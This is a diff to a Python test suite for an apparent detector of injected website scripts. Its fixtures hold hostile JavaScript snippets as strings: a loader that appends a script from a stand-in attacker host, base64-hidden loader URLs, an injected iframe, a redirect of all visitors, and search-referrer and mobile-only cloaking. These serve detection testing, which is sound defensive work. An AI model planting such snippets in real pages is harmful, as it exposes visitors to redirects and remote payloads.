@@ -140,7 +140,7 @@ LOADER = (
     "var s=document.createElement('script');s.src='https://cdn.jahat.example/a.js';"
     "document.head.appendChild(s);"
 )
-AGAIN = f"atob('{b64('https://cdn.jahat.example/a.js')}')"
+AGAIN = f"atob('{b64('https://cdn.jahat.example/mulai.js')}')"
 FRAME = "$('<iframe>',{src:'https://jahat.example/x'})STYLE.appendTo('body')"
 GUILTY = {
     "a loader": (LOADER, "loader"),
@@ -158,7 +158,7 @@ GUILTY = {
     ),
     "a long start that loads from an address in base64 once more": (
         STARTER + LOADER.replace("'https://cdn.jahat.example/a.js'", AGAIN),
-        "loader",
+        "look",
     ),
     "a theme that loads from the trade": (
         THEME.replace("statistik.gubahrupa", "cdn.slot88gacor"),
@@ -166,6 +166,14 @@ GUILTY = {
     ),
     "a theme that looks who comes from a search": (
         THEME.replace("var s=", "if(!/google\\.|bing\\./.test(d.referrer))return;var s="),
+        "look",
+    ),
+    "a theme that looks who comes from a search by telephone, once": (
+        THEME.replace(
+            "var s=",
+            "if(!/google\\.|bing\\./.test(d.referrer)||screen.width>700||d.cookie)return;"
+            "d.cookie='a=1';var s=",
+        ),
         "loader",
     ),
     "a theme that moves everybody": (THEME + "location.href='https://jahat.example/x'", "visitors"),
@@ -215,5 +223,5 @@ def test_what_an_encoded_script_does_for_a_stranger(name: str, wrap: str) -> Non
 def test_what_is_added_to_another_script_is_no_theme(name: str) -> None:
     before = "".join(f"$('.menu{n}').on('click',function(){{$(this).toggle()}});" for n in range(5))
     source = before + WRAPS[name](THEME)
-    assert on_page(source, "").message == "loader"
-    assert in_file(source, "").message == "loader"
+    assert on_page(source, "").message == "look"
+    assert in_file(source, "").message == "look"
